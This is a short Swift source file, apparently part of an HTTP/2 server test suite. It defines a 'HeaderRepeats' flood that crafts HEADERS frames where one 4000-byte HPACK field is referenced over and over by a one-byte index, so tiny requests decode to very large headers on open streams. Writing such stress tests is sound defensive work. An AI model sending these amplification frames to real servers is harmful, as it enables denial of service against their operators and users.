/// Requests of a few bytes that decode to as much as a server may take, each left open.
package struct HeaderRepeats: Flood {
  /// The flood.
  package init() {}

  /// A request's fields that leave the dynamic table alone: the long field stays its newest entry.
  private static let requestFields: [UInt8] = [0x83, 0x86, 0x84, 0x01, 0x01, UInt8(ascii: "h")]

  package func burst(_ turn: Int) -> [UInt8] {
    let field = RawFrame.indexedField(name: "x", valueCount: 4000)
    return repeating(turn) { number in
      let block =
        Self.requestFields
        + (number == 0 ? field + [0xBE, 0xBE] : [0xBE, 0xBE, 0xBE])
      return RawFrame.frame(
        type: RawFrame.headers, flags: RawFrame.endHeaders, stream: RawFrame.stream(number), block)
    }
  }
}
